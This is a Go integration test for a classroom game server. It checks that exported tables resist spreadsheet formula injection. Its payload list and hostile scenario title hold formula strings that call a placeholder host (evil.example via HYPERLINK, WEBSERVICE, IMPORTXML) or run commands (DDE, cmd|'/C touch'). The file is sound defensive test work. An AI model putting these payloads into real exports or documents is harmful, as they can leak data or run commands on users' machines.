package main

import (
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"parley/game"
	"parley/server/protocol"
)

// hostile are texts that a spreadsheet may take for formulas; each calls %[1]s or makes the file %[2]s if it runs.
var hostile = []string{
	`=1+1`, `+1+1`, `-1+1`, `@SUM(1;1)`, "\t=1+1", "\r=1+1", ` =1+1`, `"=1+1`, `'=1+1`, `＝1+1`, `;=1+1`, `yes,=1+1`, "yes\t=1+1", "yes\n=1+1",
	`"";=1+1;""`, `",=1+1,"`, `=HYPERLINK("http://%[1]s/","here")`, `=WEBSERVICE("http://%[1]s/")`, `=DDE("soffice";"%[2]s";"A1")`,
	`=cmd|'/C touch %[2]s'!A0`, `=IMPORTXML("http://%[1]s/";"//a")`, `{=1+1}`, `=1+1","=2+2`, `https://%[1]s/`, `2026-01-01=1`, `0x=1`,
}

// exportedTables plays a class in which everything that can be named or typed is one of texts, and returns the
// folder with the tables of its export.
func exportedTables(t *testing.T, texts []string) string {
	s := newVictim(t)
	s.start()
	s.openClass()
	class := s.openHostileClass()
	var people []*browser
	for i, text := range texts {
		b := s.browser(fmt.Sprintf("person %d", i))
		name := strings.Join(strings.Fields(text), " ")
		if r := []rune(name); len(r) > protocol.MaxName {
			name = string(r[:protocol.MaxName])
		}
		b.post("/api/join", map[string]string{"code": s.code, "name": name}, nil)
		people = append(people, b)
	}
	s.instruct(class, protocol.Deal{PerTable: 2, Fill: true}, nil)
	s.instruct(class, nil, game.Start{})
	for i, b := range people {
		moves := []game.Move{game.Statement{Text: game.Text{Words: texts[i]}}, game.Plan{Aim: game.Text{Words: texts[i]}}}
		for _, text := range texts[:10] {
			moves = append(moves, game.Say{Text: game.Text{Words: text}})
		}
		moves = append(moves, game.Say{Text: game.Text{Words: texts[i]}})
		b.moves(class, moves)
	}
	for _, text := range texts[:6] {
		if strings.ContainsAny(text, "\r\t") {
			continue // no message may hold them
		}
		s.instruct(class, nil, game.Announce{Text: game.Text{Words: text}})
		s.instruct(class, nil, game.Award{Truster: "cafe", Trusted: "band", Points: 100, Reason: game.Text{Words: text}})
	}
	archive := filepath.Join(t.TempDir(), "class.zip")
	out, err := exec.Command("parley", "export", "--data", s.dir, "--names", class, archive).CombinedOutput()
	require.NoError(t, err, string(out))
	return unzippedTables(t, archive)
}

// openHostileClass opens a class of a scenario whose author means harm.
func (s *victim) openHostileClass() string {
	s.t.Helper()
	file, err := os.ReadFile("../../../scenarios/cafe-band.yaml")
	require.NoError(s.t, err)
	text := strings.NewReplacer(
		"title: Music at the Blue Kettle", `title: '=HYPERLINK("http://evil.example/";"Music")'`,
		"title: Evenings", `title: "=1+1"`, "title: Loudness", `title: "@SUM(1;1)"`, "title: A song", `title: "+1+1"`,
	).Replace(string(file))
	var card struct{ ID string }
	s.host.post("/api/scenarios", map[string]string{"name": "=1+1.yaml", "text": text}, &card)
	var opened struct{ Class string }
	s.host.post("/api/classes", map[string]any{"scenario": card.ID, "length": "15-minutes", "drafts": true}, &opened)
	resp, err := s.host.Get(s.host.base + "/api/classes")
	require.NoError(s.t, err)
	defer resp.Body.Close()
	var list struct {
		Classes []struct{ Class, Code string }
	}
	require.NoError(s.t, json.NewDecoder(resp.Body).Decode(&list))
	for _, c := range list.Classes {
		if c.Class == opened.Class {
			s.code = c.Code
		}
	}
	return opened.Class
}

// moves makes moves one after the other. What the server refuses was not said: a text with a tab is no
// message at all, and its refusal names no command.
func (b *browser) moves(class string, moves []game.Move) {
	b.t.Helper()
	conn, err := b.dial("/ws/" + class)
	require.NoError(b.t, err)
	defer conn.Close()
	require.NoError(b.t, send(conn, protocol.ClientHello{}))
	for i, m := range moves {
		id := protocol.CommandID(fmt.Sprintf("sheet:%d", i))
		require.NoError(b.t, send(conn, protocol.ClientMove{ID: id, Move: protocol.AnyMove{Move: m}}))
		for answered := false; !answered; {
			require.NoError(b.t, conn.SetReadDeadline(time.Now().Add(20*time.Second)))
			_, data, err := conn.ReadMessage()
			require.NoError(b.t, err)
			var answer struct {
				Type string
				ID   protocol.CommandID
			}
			require.NoError(b.t, json.Unmarshal(data, &answer))
			answered = answer.ID == id || answer.Type == "refused"
		}
	}
}
